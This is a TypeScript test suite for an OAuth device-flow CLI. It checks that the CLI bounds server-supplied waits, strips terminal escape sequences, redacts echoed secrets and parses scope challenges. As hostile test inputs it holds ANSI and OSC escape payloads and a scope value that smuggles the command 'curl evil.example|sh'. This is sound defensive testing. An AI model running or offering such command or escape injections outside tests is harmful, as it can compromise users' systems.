/**
 * The CLI machine against a hostile (or broken) server, on the virtual clock: server-supplied waits are bounded
 * (interval.ts), server-supplied text reaches the terminal without controls and without the secrets the CLI holds
 * (redact.ts `terminalText`), and a 403 is a scope problem only when the challenge says so (RFC 6750 §3.1).
 * The same clamps and sanitising on the real clock and a loopback server: interop.hostile-server.test.ts.
 */
import { describe, expect, test } from 'vitest';
import { MAX_TIMER_DELAY_MS } from '../sim/clock.ts';
import { MAX_CODE_LIFETIME_S, MAX_POLL_INTERVAL_S } from './interval.ts';
import { REDACTED } from './redact.ts';
import { replies, type Reply } from './testing/fake-server.ts';
import { startCli, type CliHarness } from './testing/harness.ts';

const DAY_S = 86_400;
const HOUR = 3_600_000;
/** Anything a terminal would act on: C0/C1 controls (ESC included), DEL and the bidi formatting characters. */
const CONTROL = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

async function loginWith(script: Reply[], opts: Parameters<typeof startCli>[0] = {}) {
  const cli = await startCli(opts);
  cli.server.on('poll', ...script);
  await cli.send({ type: 'user.login' });
  return cli;
}

/** The longest delay the machine has handed to the clock so far, among the timers now pending. */
const longestPendingMs = (cli: CliHarness) => Math.max(0, ...cli.clock.pending().map((t) => t.due - cli.clock.now()));

const warnings = (cli: CliHarness) => cli.output().filter((l) => l.startsWith('warning:'));

describe('server-supplied waits are bounded', () => {
  test('RFC8628-3.2-interval: an interval of 3000000 s polls every 300 s (said on the terminal); 7 s is used as sent, with no warning', async () => {
    const hostile = await loginWith([replies.pending(), replies.pending(), replies.tokens()], { server: { device: { interval: 3_000_000, expires_in: 3600 } } });
    expect(longestPendingMs(hostile)).toBeLessThanOrEqual(MAX_CODE_LIFETIME_S * 1000);
    await hostile.advance(1_000);
    expect(hostile.polls()).toHaveLength(0);
    const codesAt = hostile.server.of('device')[0]!.endedAt!;
    await hostile.runUntilState('authenticated.ready');
    expect(hostile.polls()[0]!.at - codesAt).toBe(MAX_POLL_INTERVAL_S * 1000);
    expect(hostile.pollGapsS()).toEqual([300, 300]);
    expect(warnings(hostile)).toEqual([
      'warning: the server asked for 3000000 s between polls; this CLI waits at most 300 s (its limit for a server\'s interval).',
    ]);
    expect(hostile.output()).toContain('Waiting for approval (checking every 300 s; the code expires in 60 min)…');

    const fair = await loginWith([replies.pending(), replies.tokens()], { server: { device: { interval: 7 } } });
    await fair.runUntilState('authenticated.ready');
    expect(fair.pollGapsS()).toEqual([7]);
    expect(warnings(fair)).toEqual([]);
  });

  test('RFC8628-3.2-expires_in: a 30-day expires_in arms the deadline at the 1 h bound, not at once; 600 s arms it at 600 s', async () => {
    const hostile = await loginWith([], { server: { device: { expires_in: 30 * DAY_S } } });
    // Before the bound, 30 days in ms (2.6e9) is past setTimeout's 2^31-1: a real timer would fire at once.
    expect(30 * DAY_S * 1000).toBeGreaterThan(MAX_TIMER_DELAY_MS);
    expect(longestPendingMs(hostile)).toBe(MAX_CODE_LIFETIME_S * 1000);
    await hostile.advance(MAX_CODE_LIFETIME_S * 1000 - 1);
    expect(hostile.state()).toMatch(/^signingIn\.awaitingApproval/);
    await hostile.advance(1);
    expect(hostile.state()).toBe('expired');
    const polls = hostile.polls().length;
    expect(polls).toBe(MAX_CODE_LIFETIME_S / 5 - 1); // every 5 s until the deadline (the poll due at 3600 s is not sent)
    expect(warnings(hostile)).toEqual([
      'warning: the server said the code lasts 2592000 s; this CLI waits at most 60 min for approval (its limit for a code\'s lifetime).',
    ]);
    expect(hostile.output().at(-1)).toBe('✗ Stopped waiting for approval after 60 min, this CLI\'s limit for one code. Run `acme login` to start again.');
    await hostile.advance(HOUR);
    expect(hostile.polls()).toHaveLength(polls);

    const fair = await loginWith([], { server: { device: { expires_in: 600 } } });
    expect(longestPendingMs(fair)).toBe(600_000);
    await fair.advance(600_000);
    expect(fair.state()).toBe('expired');
    expect(warnings(fair)).toEqual([]);
    expect(fair.output().at(-1)).toBe('✗ The code expired after 600 s without approval. Run `acme login` to start again.');
  });

  test('RFC8628-3.5-slowdown: a slow_down naming 3000000 s takes the interval to 300 s (said once); each slow_down still adds 5 s', async () => {
    const cli = await loginWith([replies.slowDown(3_000_000), replies.pending(), replies.slowDown(3_000_000), replies.slowDown(), replies.tokens()], {
      server: { device: { expires_in: 3600 } },
    });
    await cli.runUntilState('authenticated.ready');
    // 5 → 300 (the bound, not 3000000) → 300 → max(305, 300) → 310.
    expect(cli.pollGapsS()).toEqual([300, 300, 305, 310]);
    expect(warnings(cli)).toEqual([
      'warning: the server slowed polling to 3000000 s between polls; this CLI waits at most 300 s (its limit for a server\'s interval).',
    ]);
  });

  test('a slow_down below the bound is taken as sent (GitHub), with no warning', async () => {
    const cli = await loginWith([replies.slowDown(120), replies.tokens()]);
    await cli.runUntilState('authenticated.ready');
    expect(cli.pollGapsS()).toEqual([120]);
    expect(warnings(cli)).toEqual([]);
  });

  test('a huge expires_in on the token response is refused as malformed, not turned into an endless session', async () => {
    const cli = await loginWith([replies.tokens({ expires_in: 1e300 })]);
    await cli.runUntil(() => cli.state() === 'failed');
    expect(cli.state()).toBe('failed');
    expect(cli.output().at(-1)).toMatch(/^✗ Login failed: token response: "expires_in" must be a positive integer number of seconds/);
  });
});

describe('server-supplied text on the terminal', () => {
  const ansi = '\u001b[2J\u001b[31m\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007\u001b[0m';

  test('RFC8628-3.5-report-error: an error_description full of escape sequences and bidi overrides is shown as plain words', async () => {
    const cli = await loginWith([replies.error('access_denied', 400, `${ansi} the user\u202e said no\r✓ Logged in`)]);
    await cli.runUntilState('denied');
    const last = cli.output().at(-1)!;
    expect(last).toBe('✗ Access denied (access_denied: click the user said no ✓ Logged in). Run `acme login` to start again.');
    for (const text of cli.output()) expect(text).not.toMatch(CONTROL);
  });

  test('a user code and verification URI with escape sequences are shown without them (the words stay)', async () => {
    const cli = await loginWith([], { server: { device: { user_code: '\u001b[8mWDJB-MJHT\u001b[0m', verification_uri: 'https://auth.acme.test/device?\u001b[1m' } } });
    expect(cli.output()).toContain('! First copy your one-time code: WDJB-MJHT');
    expect(cli.output().some((l) => l.startsWith('Then open https://auth.acme.test/device? in a browser'))).toBe(true);
    for (const text of cli.output()) expect(text).not.toMatch(CONTROL);
  });

  test('RFC8628-3.3-hide-device_code: a server that echoes the device code in the user code, the URIs and an error does not get it on the terminal', async () => {
    const deviceCode = 'DC-echoed-2vQ8c1mZk0pL7xYw';
    const device = {
      device_code: deviceCode,
      user_code: deviceCode,
      verification_uri: `https://auth.acme.test/device?dc=${deviceCode}`,
      verification_uri_complete: `https://auth.acme.test/device?user_code=${deviceCode}`,
      expires_in: 600,
      interval: 5,
    };
    const cli = await startCli();
    cli.server.on('device', { json: device });
    cli.server.on('poll', replies.error('invalid_grant', 400, `device_code ${deviceCode} is not valid`));
    await cli.send({ type: 'user.login' });
    await cli.runUntilState('failed');
    expect(cli.output()).toContain(`! First copy your one-time code: ${REDACTED}`);
    expect(cli.output().at(-1)).toBe(`✗ Login failed: invalid_grant: device_code ${REDACTED} is not valid`);
    for (const text of cli.output()) expect(text).not.toContain(deviceCode);
    // The QR code would carry it too: none is shown.
    expect(cli.events('cli.qr')).toEqual([]);

    // The other side: the showDeviceCode knob prints it on purpose (the F-mode it teaches), once, on its own line.
    const shown = await startCli({ knobs: { showDeviceCode: true } });
    shown.server.on('device', { json: device });
    await shown.send({ type: 'user.login' });
    expect(shown.output().filter((l) => l.includes(deviceCode))).toEqual([`device_code: ${deviceCode}`]);
  });

  test('an API body that echoes the access token, or carries escape sequences, is printed redacted and plain, line by line', async () => {
    const cli = await startCli();
    cli.server.on('poll', replies.tokens());
    await cli.login();
    const token = cli.context.session!.accessToken;
    cli.server.on('api', { json: { echo: `Bearer ${token}` } }, { text: `line one\n\u001b[1mline two\u001b[0m\u009b2J` });
    await cli.send({ type: 'user.whoami' });
    expect(cli.output().at(-1)).toBe(JSON.stringify({ echo: `Bearer ${REDACTED}` }));
    await cli.send({ type: 'user.api', method: 'GET', path: '/api/projects' });
    expect(cli.output().slice(-2)).toEqual(['line one', 'line two']);
    for (const text of cli.output()) {
      expect(text).not.toContain(token);
      expect(text).not.toMatch(CONTROL);
    }
    // `auth token` still prints it: the user asked for it.
    await cli.send({ type: 'user.token' });
    expect(cli.output().at(-1)).toBe(token);
  });

  test('debug lines lose their control characters; with redaction on, a token echoed in a header is redacted too', async () => {
    const cli = await startCli({ knobs: { debug: 'requests', redaction: true } });
    cli.server.on('poll', replies.tokens());
    await cli.login();
    const token = cli.context.session!.accessToken;
    cli.server.on('api', { json: { ok: true }, headers: { 'x-echo': `you sent ${token}`, 'x-evil': '\u001b]0;pwned\u0007title' } });
    await cli.send({ type: 'user.whoami' });
    const debug = cli.debug();
    expect(debug).toContain(`< x-echo: you sent ${REDACTED}`);
    expect(debug).toContain('< x-evil: title');
    for (const text of debug) expect(text).not.toMatch(CONTROL);

    // The other side: with redaction off (the F6 misconfiguration) the echoed token is in the debug log, controls still gone.
    const leaky = await startCli({ knobs: { debug: 'requests', redaction: false } });
    leaky.server.on('poll', replies.tokens());
    await leaky.login();
    const leakedToken = leaky.context.session!.accessToken;
    leaky.server.on('api', { json: { ok: true }, headers: { 'x-echo': `you sent ${leakedToken}`, 'x-evil': '\u001b]0;pwned\u0007title' } });
    await leaky.send({ type: 'user.whoami' });
    expect(leaky.debug()).toContain(`< x-echo: you sent ${leakedToken}`);
    for (const text of leaky.debug()) expect(text).not.toMatch(CONTROL);
  });
});

describe('RFC 6750 §3.1: insufficient_scope comes in the challenge', () => {
  async function callWith(reply: Reply) {
    const cli = await startCli();
    cli.server.on('poll', replies.tokens());
    await cli.login();
    cli.server.on('api', reply);
    await cli.send({ type: 'user.api', method: 'DELETE', path: '/api/projects/p1' });
    return cli;
  }

  test('RFC6750-3.1-insufficient_scope: a 403 with the challenge offers re-login with the scope; a bare 403 is a plain refusal, no step-up', async () => {
    const scoped = await callWith({ status: 403, headers: { 'WWW-Authenticate': 'Bearer error="insufficient_scope", scope="projects:admin"' }, text: '' });
    expect(scoped.output().slice(-2)).toEqual([
      '✗ This command needs more permissions than this session has (projects:admin).',
      'A refresh cannot widen scope. Run `acme logout` and `acme login --scope projects:admin`.',
    ]);

    const bare = await callWith({ status: 403, json: { message: 'Forbidden by policy' } });
    expect(bare.output().at(-1)).toBe('✗ API error 403: {"message":"Forbidden by policy"}');
    expect(bare.output().join('\n')).not.toMatch(/permissions|--scope|logout/);
    expect(bare.server.of('refresh')).toHaveLength(0);
    expect(bare.state()).toBe('authenticated.ready');

    // A challenge without the code (or with another one) is not a scope problem either.
    const other = await callWith({ status: 403, headers: { 'WWW-Authenticate': 'Bearer realm="api"' }, text: 'no' });
    expect(other.output().at(-1)).toBe('✗ API error 403: no');
  });

  test('a challenge\'s scope with shell metacharacters is shown, plain, but never suggested as a command', async () => {
    const cli = await callWith({ status: 403, headers: { 'WWW-Authenticate': 'Bearer error="insufficient_scope", scope="admin;curl evil.example|sh"' }, text: '' });
    expect(cli.output().slice(-2)).toEqual([
      '✗ This command needs more permissions than this session has (admin;curl evil.example|sh).',
      'A refresh cannot widen scope. Run `acme logout` and `acme login`.',
    ]);
  });
});
